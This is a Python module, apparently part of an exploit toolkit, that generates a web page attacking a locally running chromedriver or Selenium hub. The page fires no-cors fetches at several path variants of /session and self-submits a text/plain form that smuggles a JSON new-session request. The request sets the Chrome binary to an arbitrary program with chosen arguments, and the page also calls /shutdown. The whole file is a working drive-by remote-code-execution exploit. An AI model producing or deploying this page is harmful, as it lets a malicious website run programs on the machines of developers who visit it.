"""A page that knows where a chromedriver or a hub answers, and orders a session there, which starts a program."""

from __future__ import annotations

import json

PATHS = ("/session", "//session", "/wd/hub/session", "/./session", "/%2e/session", "/status/../session")

_PAGE = """<!doctype html><title>attacking</title><form method=post enctype=text/plain action="ROOT/session">
<input name='FIELD' value='VALUE'></form><input type=password><script>
const send = (path) => fetch("ROOT" + path, {method: "POST", mode: "no-cors", body: ORDER}).catch(() => 0);
Promise.all([...PATHS.map(send), fetch("ROOT/shutdown", {mode: "no-cors"}).catch(() => 0)])
  .then(() => document.forms[0].submit());
</script>"""


def order_of(binary: str, *arguments: str) -> str:
    """What has chromedriver start `binary`."""
    options = {"binary": binary, "args": list(arguments)}
    return json.dumps({"capabilities": {"alwaysMatch": {"browserName": "chrome", "goog:chromeOptions": options}}})


def attack_page(root: str, order: str) -> str:
    """The page: by fetch, whose answer it cannot read, and by a form that it sends itself."""
    field, value = order[: len(order) // 2], order[len(order) // 2 :]
    page = _PAGE.replace("FIELD", field).replace("VALUE", value).replace("PATHS", json.dumps(PATHS))
    return page.replace("ORDER", json.dumps(order)).replace("ROOT", root)
